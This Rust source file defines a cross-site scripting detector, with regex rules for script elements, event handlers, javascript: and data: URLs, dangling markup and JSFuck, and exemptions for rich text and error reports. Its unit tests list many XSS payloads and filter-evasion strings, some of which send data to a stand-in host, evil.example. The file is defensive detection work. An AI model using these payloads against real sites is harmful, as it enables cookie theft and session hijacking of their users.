//! Cross-site scripting (CWE-79; OWASP WSTG-INPV-01, XSS Filter Evasion Cheat Sheet): markup and
//! script that a browser would run.
//!
//! Markup as such is no attack: editors send it. What counts is what runs script: elements,
//! handlers, URLs, styles that load code; and script that leaves a string or an attribute it was
//! put in. In rich text, players and maps of services that everybody embeds are none of it.

use super::{
    BuildError, Detector, Family, Finding, Marks, Rule, RuleSet, Value, embed,
    lexicon::Lexicon,
    markup,
    rules::{always, short},
    sentence,
};
use crate::{
    normal::{Spelling, normalise},
    places::{NameHints, Part, Place},
};

/// Script needs markup, a call, a member or a scheme.
const MARKS: Marks = Marks::ANGLE
    .and(Marks::ROUND)
    .and(Marks::EQUALS)
    .and(Marks::COLON)
    .and(Marks::COMMA)
    .and(Marks::SQUARE)
    .and(Marks::QUOTE);

/// Handlers of HTML and SVG (WHATWG HTML, section 8.1.8.2), as they stand behind a quote or a
/// slash.
macro_rules! handlers {
    () => {
        r"on(?:error|load|click|dblclick|mouse\w+|focus\w*|blur|key\w+|animation\w+|transition\w+|pointer\w+|toggle|begin|end|submit|change|input|select|copy|cut|paste|drag\w*|drop|scroll\w*|wheel|resize|hashchange|message|page\w+|pop\w+|storage|unload|beforeunload|start|finish|bounce|touch\w+|show|search|abort|canplay\w*|play\w*|seek\w*|time\w*|volume\w*|waiting|invalid|reset|contextmenu|auxclick|before\w+|after\w+|activate|deactivate|ready\w*|data\w+|filter\w+|help|lose\w+|move\w*|property\w*|row\w+|fullscreen\w*|webkit\w+|got\w+|lost\w+|formdata|slotchange|security\w+|rejection\w*|unhandled\w+)"
    };
}

pub(super) const RULES: &[Rule] = &[
    // markup that runs
    always(
        "script-element",
        r#"<[\s/]*script(?:[\s/(:][^>]*)?(?:\bsrc\b|\bhref\b|[^>]*$|>\s*(?:[("'`/$_!+~\[\\-]|\{\w|[\w.]+\s*[^\w\s]|<|$)|/>)|<script>\w+</|</\s*script\b|<py-script|<\w+:script\b"#,
    ),
    always("handler", r#"<[a-z!?/][^>]*[\s/"'`\x0b\x0c]on[a-z]{3,}\s*="#),
    always(
        "handler-broken",
        r"<\w[^>]*\bo<\w{1,6}>n\w{3,}\s*=|\bo<\w{1,4}>n\w{3,}\s*=",
    ),
    short(
        "active-element",
        r"<[\s/]*(?:frame|frameset|applet|base[\s/]|meta[\s/][^>]*\bhttp-equiv|xml\s|xml>|xml:|xss|import|isindex|bgsound|layer|ilayer|keygen|portal|noscript|listing|plaintext|xmp|comment|v:\w|vmlframe|set\s|animate\w*|handler|foreignobject|feimage|use\s|marquee|\?import|\?xml:|xsl:|event-source|details\s+open|param\s|image\s)|<\s*(?:svg|math)(?:[/>]|\s*$|\s+on)",
    ),
    // what rich text embeds
    short(
        "embedded",
        r"<[\s/]*(?:iframe|object|embed)|<[\s/]*(?:videos?|audio)\s+src",
    ),
    // markup without script that sends away what the page holds, or what is entered (dangling
    // markup, foreign forms)
    short(
        "form",
        r#"<\s*(?:form|button|input|textarea|select|isindex)\b[^>]*\s(?:form)?action\s*=\s*["'`]?\s*(?:(?:https?:)?[\\/]{2}|data:)|<\s*(?:button|input|textarea|select|output|fieldset)\b[^>]*\sform\s*="#,
    ),
    short(
        "unclosed",
        r#"<\s*(?:img|image|video|audio|source|link|input)\b[^>]*\s(?:src|href|srcset|poster)\s*=\s*["'`]?\s*(?:https?:)?[\\/]{2}[^>]*$"#,
    ),
    always(
        "frame",
        r#"<(?:iframe|frame|embed|object)\b[^>]*(?:src|data|srcdoc)\s*=\s*["'`]?\s*(?:javascript|data:|vbscript|&|%|\\)|<iframe[^>]*\bsrcdoc\b"#,
    ),
    always(
        "style",
        r#"<style[^>]*>[^<]*(?:expression\s*\(|javascript:|behaviou?r\s*:\s*url|-moz-binding)|<\w+[^>]*\bstyle\s*=\s*["'`]?[^>"'`]*(?:expression|javascript:|[^-]behaviou?r\s*:|binding|url\(\s*['"]?(?:javascript|data:text):|:x:|\\-)|expression\s*\(\s*(?:alert|\w+\s*=|document|window|eval|write)|-moz-binding\s*:|behaviou?r\s*:\s*url|@import\s*['"(u][^;]*javascript|url\(\s*['"]?javascript"#,
    ),
    // what tells another host of each click
    short(
        "ping",
        r#"<[\s/]*(?:a|area)\b[^>]*\sping\s*=\s*["'`]?\s*(?:https?:)?[\\/]{2}"#,
    ),
    // a sheet of styles of elsewhere, which reads what a page shows by what it loads
    short(
        "import",
        r#"@import\s*(?:url\(\s*)?["']?\s*(?:(?:https?:)?[\\/]{2}|data:)"#,
    ),
    // what a sheet of styles loads, or does to every element
    short(
        "style-sheet",
        r"<style[^>]*>[^<]*(?:@import|expression|javascript|behaviou?r|binding|\*\{)",
    ),
    short(
        "link",
        r#"<[\s/]*link\b[^>]*(?:href\s*=\s*["']?\s*(?:javascript|data|//|[\w.]+\.js)|rel\s*=\s*["']?import)"#,
    ),
    short("link-style", r#"<[\s/]*link\b[^>]*rel\s*=\s*["']?stylesheet"#),
    short(
        "source",
        r#"<\s*(?:img|image|input|video|audio|source|body|table|td|bgsound)\b[^>]*(?:\b(?:dyn|low)?src|background|poster)\s*=\s*["'`]?\s*(?:x\b|#|javascript|vbscript|data:text|&|livescript|mocha|`|>|1\b|\.\s)"#,
    ),
    // URLs that run
    always(
        "scheme",
        r#"(?:^|["'=(\s/,;`])(?:java|vb|live)\s*script\s*:(?:[^\s"'<>]{3,}|\s*\w*[(.=`\[])|(?:j[ \t\n\r]\s*a\s*v\s*a|ja[ \t\n\r]\s*v\s*a|jav[ \t\n\r]\s*a|v[ \t\n\r]\s*b|java\s*s\s+c|java\s*s\s*c\s+r|java\s*s\s*c\s*r\s+i|java\s*s\s*c\s*r\s*i\s+p|java\s*s\s*c\s*r\s*i\s*p\s+t)[\sscript]*:[^\n]*[(=`\[{]|(?:java|vb|live)script\s*:\s*(?:(?:var|let|const)\s+\w+\s*=|(?:throw|void|new|typeof|return)\s+[\w(]+[^\n]*[(=`\[{]|try\s*\{|function\s*\w*\(|(?:async|await)\s)|script:(?:con|alert|eval)|mocha:\[|\b(?:href|src|action|formaction)\s*=\s*["'`]?\s*javascript\s*:\s*[\w$(\[{'"`+!~/-]"#,
    ),
    always(
        "data-url",
        r"data:\s*(?:(?:text/html|application/xhtml|text/xml|text/javascript|application/javascript)[^,\s]*\s?(?:,|;\s?base64|$)|image/svg[^,\s]*;base64,|[^,\s]*;base64,\s*PHN)|data:\s*,\s*<",
    ),
    // script in an attribute or a string that it leaves
    short(
        "attribute-break",
        concat!(
            r#"(?:["'`>/]|^|["'][^"'<>]*\s)\s*\b"#,
            handlers!(),
            r#"\s*=\s*(?:["'`]?\s*[\w(\[{`$;/&\\]|$)|^[^<]*["'][\s/]*(?:autofocus|formaction|srcdoc|style|src|href)\s*="#
        ),
    ),
    always(
        "handler-code",
        r#"\bon[a-z]{3,}\s*=\s*["'`]?\s*(?:alert|confirm|prompt|eval|javascript:|document\.|window\.|fetch\(|location\b|import\(|x\s*=>|write\b)"#,
    ),
    always(
        "dialogue",
        r#"\b(?:alert|confirm|prompt)(?:\?\.)?(?:<\w{0,4}>|[)\]\t\n])*(?:\(\s*(?:\d|['"`/]|document|window|this|self|origin|location|\)|xss|String|name|top)|`)|\b(?:alert|confirm|prompt|eval)\.(?:call|apply|bind)\s*\(|=\s*\(?(?:alert|confirm|prompt|eval)\)?\s*[;,)&]|\((?:alert|confirm|prompt|eval)\)\s*[(`]|[,:\[]\s*(?:alert|confirm)\s*[\])]|\.(?:map|find|filter|forEach)\(\s*(?:alert|confirm|eval)\b"#,
    ),
    short(
        "call",
        r#"(?:^|[^\w.])(?:alert|confirm|prompt|eval|settimeout|setinterval|atob)\b(?:<\w{0,4}>|[)\]}'"/*+.?,\t\n]){0,6}(?:\(|`|&lpar;)\s*[^\s]*(?:[)`]|$)|\bimport\s*\(\s*['"`/]"#,
    ),
    short(
        "dom",
        r#"\bdocument\??\.(?:cookie|domain|write(?:ln)?\b|body\b|URL\b|createElement|getElement\w+|querySelector\w*|referrer|location\b|innerHTML|defaultView|documentElement|execCommand)|\b(?:window|top|parent|frames|globalThis)\??\.(?:document\b|location\b|name\b\s*[;)]|cookie|domain)|\bself\.(?:location\s*[.=]\s*['"`(h])|\bnavigator\.(?:vibrate|sendBeacon)|\b(?:document|window|top|self|parent|frames|globalThis|location|navigator)\??(?:\[\s*['"`/+(\[!~])|\blocation\s*=\s*['"`(]?\s*(?:javascript|name|\w+\s*[;+]|//|http)|\blocation\.(?:hash|href|search|replace)\b\s*[.=(;)]|\b(?:getElementsByTagName|appendChild|fromCharCode|createElement|insertAdjacentHTML|innerHTML\s*=|getScript)\b"#,
    ),
    short(
        "construct",
        r#"\[\s*['"`](?:constructor|__proto__|alert|eval|\w+['"`]\s*\+)|\.(?:constructor|source|call|apply)\s*(?:\(|`)\s*['"`(]|\.(?:constructor|sort|map|find|filter|replace|source|call|apply|with)\s*(?:\(|\.call|`)\s*(?:alert|\$\{|eval|confirm|[\d,]+alert)|\.source\s*\+\s*/|(?:Reflect|Array|Function|Set|Map)\.\w+(?:\.\w+)*\s*`|\bFunction\s*(?:`|\(\s*['"`])|\]\s*\(\s*(?:\d+|['"`]|document|\))\s*\)?$|^\W*'\w+'(?:\s*\+\s*'\w+')+\W*\(\)|^\(?\s*'\w+\([^']*'\s*\)\s*\(\)"#,
    ),
    // `<` and `>` as UTF-7 (RFC 2152), and as decoders read them that drop the eighth bit
    always(
        "seven-bit",
        r"[+ ]ADw-/?(?:script|\w+[+ ]AD)|(?:1/4|\xEF\xBF\xBD)script(?:3/4|\xEF\xBF\xBD)",
    ),
    // letters made of brackets (JSFuck)
    short(
        "brackets",
        r"(?:!?\[\]|!\+\[\]|\(!\[\]|\+\[\])(?:\s?[\[\]()!+]){6,}|\(!?\[\]\s*\[?\]?\)\s*\[|\[!?\[\]\]",
    ),
];

/// Names of fields that editors send markup in.
const RICH: NameHints = NameHints::HTML.and(NameHints::TEMPLATE);

/// Whether a value came where an editor sends its text.
fn is_rich_text(value: &Value<'_>, names: NameHints) -> bool {
    value.place.part == Part::Body && value.place.hints().any(names)
}

/// Whether a value came where a drawing is wanted.
fn is_picture(value: &Value<'_>) -> bool {
    value.place.part == Part::Body
        && value
            .place
            .is_named(&["svg", "icon", "logo", "svgcode", "svgcontent", "drawing"])
}

/// Whether a value is what those who run a site have every page load: the code of a head or a foot,
/// in the settings.
fn is_code_of_the_site(value: &Value<'_>) -> bool {
    const NAMES: &[&str] = &[
        "headcode",
        "headercode",
        "footercode",
        "bodycode",
        "customjs",
        "customcss",
        "customhtml",
        "customcode",
        "trackingcode",
        "analyticscode",
        "headscript",
        "headerscript",
        "footerscript",
        "headhtml",
        "headerhtml",
        "footerhtml",
    ];
    if value.place.part != Part::Body || !value.context.is_settings() {
        return false;
    }
    value.place.is_named(NAMES)
}

/// Whether a value is a sheet of styles, where those who run a site or write code enter one.
fn is_of_styles(value: &Value<'_>) -> bool {
    value.place.part == Part::Body && value.place.hints().any(NameHints::CODE) && !value.text.contains('<')
}

/// Whether a value is part of an error report, without markup.
fn is_of_a_report(value: &Value<'_>) -> bool {
    value.place.part == Part::Body
        && value.context.is_report()
        && (!value.text.contains('<') || value.is_line_of_a_report())
}

/// Whether a value is source code of some lines in a body's field for it or for rich text, without
/// markup. Where a page puts it into a string of a script, the end of its first line stands in a
/// string, which is an error of syntax whatever follows.
fn is_source(value: &Value<'_>) -> bool {
    const WRITTEN: NameHints = NameHints::CODE.and(NameHints::HTML);
    const FEWEST_LINES: usize = 3;
    let (first, rest) = value.text.split_once('\n').unwrap_or_default();
    value.place.part == Part::Body
        && !value.text.contains(['<', '`'])
        && !value.text.contains("${")
        && first.trim_end().ends_with(['{', '(', ';', ',', '}'])
        && rest
            .lines()
            .filter(|line| !line.trim().is_empty())
            .nth(FEWEST_LINES - 2)
            .is_some()
        && value.place.hints().any(WRITTEN)
        && ['\'', '"']
            .iter()
            .all(|quote| ends_within_a_string(first.trim_end_matches('\r'), *quote))
}

/// Whether a line that begins within a string of JavaScript ends within one, which is not
/// continued.
fn ends_within_a_string(line: &str, quote: char) -> bool {
    let mut within = Some(quote);
    let mut signs = line.chars();
    while let Some(sign) = signs.next() {
        match within {
            Some(_) if sign == '\\' => {
                let Some(_) = signs.next() else { return false };
            }
            Some(open) if sign == open => within = None,
            None if matches!(sign, '\'' | '"') => within = Some(sign),
            // a comment or a pattern
            None if sign == '/' => return false,
            _ => {}
        }
    }
    within.is_some()
}

/// Whether a value is a sentence in a field for prose or for what is searched for, without markup
/// and without a string that it leaves. Where a page puts it into a script as it is, its words are
/// an error of syntax, unless they stand behind a comment.
fn is_about_a_script(value: &Value<'_>) -> bool {
    let is_prose = value.place.part == Part::Body && value.place.hints().any(NameHints::TEXT);
    if value.place.is_search() && is_call_with_words(value.text)
        || (is_prose || value.place.is_search()) && sentence::is_call_with_words(value.text)
    {
        return true;
    }
    (is_prose || value.place.is_search())
        && !["<", "$", "//", "/*", "-->"]
            .iter()
            .any(|part| value.text.contains(part))
        && sentence::is_sentence_and_no_script(value.text, sentence::OF_JAVASCRIPT)
}

/// Whether a text is the name of a function, called with nothing, and words: `alert() in js`.
fn is_call_with_words(text: &str) -> bool {
    text.split_once("() ").is_some_and(|(name, words)| {
        let is_words = words.chars().all(|sign| sign.is_ascii_alphanumeric() || sign == ' ');
        name.chars().all(|sign| sign.is_ascii_alphabetic()) && is_words && words.split_whitespace().count() >= 2
    })
}

/// Whether the only URLs of a body's value that run are those of links that do nothing
/// (`javascript:void(0)`), alone or within a sentence: no markup, and behind them only words, which
/// no script goes on with.
fn is_inert(value: &Value<'_>) -> bool {
    const SCHEME: &str = "javascript:";
    const NOTHING: &[&str] = &["void(0)", "void 0"];
    if value.place.part != Part::Body || value.text.contains(['<', '&', '\t', '\n', '\r']) {
        return false;
    }
    let lower = value.text.to_ascii_lowercase();
    let mut pieces = lower.split(SCHEME);
    let before = pieces.next().unwrap_or_default();
    let mut has_any = false;
    let is_prose = |text: &str| !text.contains("script") && !text.contains(['(', '=', '`', '[', '{', '$', '\\']);
    let is_of_words = |text: &str| {
        text.chars()
            .all(|sign| sign.is_alphanumeric() || " \"').!".contains(sign))
    };
    let begins = |text: &str, signs: &str| text.chars().next().is_none_or(|sign| signs.contains(sign));
    let is_nothing = |piece: &str| {
        has_any = true;
        let piece = piece.trim_start();
        let Some(rest) = NOTHING.iter().find_map(|nothing| piece.strip_prefix(nothing)) else {
            return false;
        };
        let rest = rest.trim_end_matches(['?', '!', '.', ' ']);
        // behind a semicolon one word is a statement, unless the link's quote ends first
        match rest.strip_prefix(';') {
            Some(rest) => begins(rest, "\"')") && is_of_words(rest),
            None => begins(rest, " \"').!") && is_of_words(rest),
        }
    };
    is_prose(before) && pieces.all(is_nothing) && has_any
}

/// What a picture may not have that is shown by itself, besides what rules for documents find:
/// markup of pages, what is loaded, and what changes attributes.
const OF_NO_PICTURE: &[&str] = &[
    "<foreignobject",
    "<!entity",
    "<handler",
    "<iframe",
    "<object",
    "<embed",
    "<set",
    "<animate",
    "xml-stylesheet",
];

/// Finds cross-site scripting.
pub(super) struct Xss {
    rules: RuleSet,
}

impl Xss {
    pub(super) fn new(lexicon: &mut Lexicon) -> Result<Self, BuildError> {
        Ok(Self {
            rules: RuleSet::with(RULES, lexicon)?,
        })
    }
}

impl Detector for Xss {
    fn family(&self) -> Family {
        Family::Xss
    }

    fn wants(&self, marks: Marks) -> bool {
        marks.any(MARKS)
    }

    fn look(&self, value: &Value<'_>) -> Option<Finding> {
        if !value.is_entered() {
            return None;
        }
        let finding = self.judge(value)?;
        if matches!(finding.rule, "handler" | "attribute-break" | "dialogue") {
            let is_source = value.place.part == Part::Body
                && value.marks.any(Marks::CURLY)
                && value.marks.any(Marks::ANGLE)
                && value.spend(2 * value.text.len() as u64);
            let rest = is_source.then(|| markup::without_handlers_of_jsx(value.text)).flatten();
            return match rest {
                Some(rest) => self.judge(&value.rewritten(&rest)).map(|found| value.widened(found)),
                None => Some(finding),
            };
        }
        if finding.rule != "data-url" {
            return Some(finding);
        }
        // pictures are looked into, and what stands around them once more
        match embed::without_pictures(value.text, |picture| self.is_drawing(value, picture)) {
            Some(rest) => self.judge(&value.with_text(&rest)).map(|found| value.widened(found)),
            None => Some(finding),
        }
    }
}

impl Xss {
    /// Whether a picture in SVG runs nothing, wherever it is shown.
    fn is_drawing(&self, value: &Value<'_>, picture: &str) -> bool {
        let normal = normalise(picture.as_bytes(), Spelling::Literal, false);
        let text = normal.text.to_ascii_lowercase();
        let marked = Value {
            marks: Marks::of(text.as_bytes()),
            ..*value
        };
        let picture = Value {
            // it is a document of its own, whatever it stands in
            is_document: true,
            place: Place {
                part: Part::Query,
                name: "",
            },
            ..marked.rewritten(&text)
        };
        value.spend(text.len() as u64)
            && text.contains("<svg")
            && !OF_NO_PICTURE.iter().any(|part| text.contains(part))
            && self.judge(&picture).is_none()
    }

    fn judge(&self, value: &Value<'_>) -> Option<Finding> {
        self.rules.judge_by(value, |rule| match rule.name {
            _ if value.is_sample() || is_code_of_the_site(value) => false,
            // a report quotes the script that failed, and people write about scripts: without
            // markup around it, it is shown and not run
            "dialogue" | "call" | "dom" | "construct" => {
                !(is_of_a_report(value) || is_about_a_script(value) || is_source(value))
            }
            "scheme" => !is_inert(value),
            "handler" if is_rich_text(value, RICH) && embed::handlers_do_nothing(value.text) => false,
            "attribute-break" if is_rich_text(value, RICH) && embed::handlers_do_nothing(value.text) => false,
            "handler-code" | "attribute-break" => !is_of_a_report(value),
            "embedded" => !(is_rich_text(value, RICH.and(NameHints::TEXT)) && embed::is_of_known_providers(value.text)),
            "import" => !embed::imports_fonts(value.text) && !is_of_styles(value),
            "style-sheet" if is_rich_text(value, RICH) => false,
            "link-style" => {
                let is_mail = value.context.is_of_mails() && markup::is_page(value.text);
                !(is_rich_text(value, RICH) && (is_mail || markup::links_known_styles(value.text)))
            }
            "form" => !is_rich_text(value, RICH) || markup::asks_for_passwords(value.text),
            // a mail's pictures and links lie where its base says
            "active-element" if value.context.is_of_mails() && markup::is_page(value.text) => {
                !(is_rich_text(value, RICH)
                    && markup::is_based_on_the_web(value.text)
                    && embed::only_draws(&markup::without_bases(value.text)))
            }
            "active-element" => !((is_rich_text(value, RICH) || is_picture(value)) && embed::only_draws(value.text)),
            "script-element" => !embed::runs_nothing(value.text),
            _ => true,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::super::tests::{assert_finds, assert_passes, family_of, find_in_query};

    #[test]
    fn scripts_are_found() {
        assert_finds(
            "xss",
            &[
                "<script>alert(1)</script>",
                "alert();x",
                "alert()//in js",
                "<ScRiPt src=//evil.example/x.js></sCrIpT>",
                "<img src=x onerror=alert(1)>",
                "<svg/onload=alert`1`>",
                "\" onmouseover=\"alert(1)",
                "' autofocus onfocus=alert(1) x='",
                "javascript:alert(document.cookie)",
                "java\tscript:alert(1)",
                "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                "';alert(String.fromCharCode(88,83,83))//",
                "\"-confirm(1)-\"",
                "<iframe src=\"data:text/html,x\">",
                "<div style=\"width:expression(alert(1))\">",
                "<a href=\"javascript:void(0)\">x</a>",
                "top['al'+'ert'](1)",
                "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]",
                "\\u003cscript\\u003ealert(1)",
                "<details open ontoggle=alert(1)>",
                "<object data=\"javascript:alert(1)\">",
                "<iframe src=\"https://www.youtube.com/embed/x\">",
                "<a href=javas&#99;ript:1>x",
                "<img src=//evil.example/?",
                "<img src='https://evil.example/?x=",
                "<form id=x></form><button form=x formaction=//evil.example>",
                "<form action=\"https://evil.example/\"><input name=password>",
                "<textarea form=x>",
                "<script type=module>import x from '//evil.example/x.js'</script>",
                "data:text/html,<b>x",
                "data:text/html;charset=utf-8,x",
            ],
        );
    }

    #[test]
    fn rich_text_may_embed_what_everybody_does() {
        let player = r#"<p>Song:</p><iframe style="border-radius:12px" src="https://open.spotify.com/embed/track/1" width="100%"></iframe>"#;
        for name in ["html", "body", "content", "post_content", "description"] {
            assert_eq!(family_of(name, player), None, "{name}");
            let foreign = player.replace("open.spotify.com", "evil.example");
            assert_eq!(family_of(name, &foreign), Some("xss"), "{name}");
        }
        assert_eq!(family_of("name", player), Some("xss"));
        assert_eq!(find_in_query("html", player).unwrap().0, "xss");
        let active = player.replace("<p>", "<p onclick=alert(1)>");
        assert_eq!(family_of("html", &active), Some("xss"));
        let style = r#"<link rel="stylesheet" href="../../../assets/site.css"><p>Hi</p>"#;
        assert_eq!(family_of("html", style), None);
        assert_eq!(family_of("name", style), Some("xss"));
        let component = "<script setup>\nimport Price from '../../../components/Price.vue'\n</script>";
        assert_eq!(family_of("content", component), None);
        assert_eq!(
            family_of("content", "<script setup>\nfetch('//evil.example')\n</script>"),
            Some("xss")
        );
        let form = r#"<form action="https://list-manage.example.com/subscribe"><input name="EMAIL"></form>"#;
        assert_eq!(family_of("html", form), None);
        assert_eq!(family_of("nickname", form), Some("xss"));
    }

    #[test]
    fn links_that_do_nothing_pass_in_bodies() {
        for text in [
            "javascript:void(0)",
            "javascript:void(0);",
            "javascript:void 0",
            "javascript:void(0)?",
            "What does \"javascript:void(0);\" do?",
            "Was macht 'javascript:void(0)' für Links?",
            "javascript:void(0) shows in the status bar when I click",
            "Why does \"javascript:void(0)\" do nothing?",
        ] {
            assert_eq!(family_of("href", text), None, "{text}");
            assert_eq!(family_of("comment", text), None, "{text}");
            assert_eq!(find_in_query("next", text).unwrap().0, "xss", "{text}");
        }
        for text in [
            "javascript:void(0);fetch('//evil.example')",
            "javascript:void(0)-open(1)",
            "javascript:void(document.title=1)",
            "javascript:void(0) ; location=name",
            "javascript:void(0) javascript:x(1)",
            "<a href=\"javascript:void(0)\" onclick=x()>",
            "javascript:void 0,name",
            "javascript:void(0)?0:name",
            "javascript:void(0) ?0:name",
            "javascript:void(0) ,name",
            "javascript:void(0) ||name",
            "javascript:void(0) ??name",
            "javascript:void(0) +name",
            "javascript:void(0) \u{2028}name",
            "javascript:void(0) \u{2029} name",
            "javascript:void(0); name",
            "javascript:void(0);name.",
            "javascript:void 0; name?",
        ] {
            assert_eq!(family_of("href", text), Some("xss"), "{text}");
        }
    }

    #[test]
    fn mails_and_data_pass_as_rich_text() {
        for text in [
            r#"<meta http-equiv="Content-Type" content="text/html; charset=utf-8"/><p>x</p>"#,
            r#"<script type="application/ld+json">{"@context":"http://schema.org","@type":"EmailMessage"}</script>"#,
        ] {
            assert_eq!(family_of("html", text), None, "{text}");
            assert_eq!(family_of("content[0].value", text), None, "{text}");
        }
        let meta = r#"<meta http-equiv="Content-Type" content="text/html; charset=utf-8"/>"#;
        assert_eq!(family_of("name", meta), Some("xss"));
        assert_eq!(
            family_of("html", r#"<meta http-equiv="refresh" content="0;url=//evil.example">"#),
            Some("xss")
        );
    }

    #[test]
    fn look_alikes_pass() {
        assert_passes(&[
            "JavaScript: The Good Parts",
            "alert() in js",
            "javascript: URLs are deprecated",
            "data: text/html; charset=utf-8 is our default",
            "data:text/html is a media type",
            "metadata: text/xml or json?",
            "<a href=\"javascript:;\">menu</a>",
            "<form action=\"/search\"><input name=\"q\"></form>",
            "<script> tags are stripped by our editor",
            "How do I use onclick= in React?",
            "<p>Hello <b>world</b>, see <a href=\"https://example.com/\">this</a></p>",
            "<img src=\"/uploads/pic.jpg\" alt=\"A picture\" width=\"300\">",
            "BLAH <A HREF=\"/PATH1/PATH2\">FOO</A>",
            "a < b and c > d",
            "<3 this",
            "fn main() { println!(\"{}\", x); }",
            "Alert: the server is down",
            "please confirm (or decline) the invitation",
            "Alert (3)",
            "confirm (yes)",
            "I like this top. Body fits well",
            "what does function(x) do",
            "use s.replace('a', 'b')",
            "<h2>Heading</h2><ul><li>One</li><li>Two & three</li></ul>",
            "if (x[i] == y[j]) { return; }",
            "the window. open it",
        ]);
    }
}
